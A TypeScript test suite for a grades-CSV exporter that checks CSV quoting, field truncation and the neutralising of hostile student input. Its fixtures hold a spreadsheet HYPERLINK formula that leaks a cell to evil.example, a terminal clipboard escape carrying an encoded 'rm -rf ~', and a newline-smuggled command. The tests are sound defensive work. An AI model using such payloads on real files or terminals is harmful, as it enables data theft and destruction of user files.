import { gradesCsv, type GradeRow } from './grades_csv';

const row = (over: Partial<GradeRow>): GradeRow => ({ id: 'ada', name: 'Ada', score: 60, maxScore: 100, lateDays: 0, status: 'ok', commit: 'abc1234', ...over });

describe('grades.csv', () => {
  it('writes the header and one row per student, numbers as they are', () => {
    expect(gradesCsv([row({}), row({ id: 'alan', name: 'Turing, Alan', score: 36.25, lateDays: 2 })])).toBe(
      'id,name,score,max_score,late_days,status,commit\nada,Ada,60,100,0,ok,abc1234\nalan,"Turing, Alan",36.25,100,2,ok,abc1234\n',
    );
  });

  it('makes a roster name that is a formula a text cell starting with an apostrophe', () => {
    const csv = gradesCsv([row({ name: '=HYPERLINK("http://evil.example/?"&A1,"Click for grades")' })]);
    expect(csv.split('\n')[1]).toBe('ada,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click for grades"")",60,100,0,ok,abc1234');
  });

  it('keeps escape sequences and line breaks of student text out of the file', () => {
    const csv = gradesCsv([row({ id: 'bob', name: 'Bob\x1b]52;c;cm0gLXJmIH4=\x07', score: 0, lateDays: 2, status: '-1+1\ncmd', commit: '' })]);
    expect(csv).not.toContain('\x1b');
    expect(csv).not.toContain('\x07');
    expect(csv.split('\n')).toEqual(['id,name,score,max_score,late_days,status,commit', "bob,Bob\\u001b]52;c;cm0gLXJmIH4=\\u0007,0,100,2,'-1+1 cmd,", '']);
  });

  it('cuts a 1.9 MB status to a few kB with a note', () => {
    const line = gradesCsv([row({ status: 'x'.repeat(1_900_000) })]).split('\n')[1];
    // 3,952 characters kept, 1,896,048 left out; the note's comma makes the cell quoted.
    expect(line).toBe(`ada,Ada,60,100,0,"${'x'.repeat(3952)} … (1,896,048 more characters not shown)",abc1234`);
  });
});
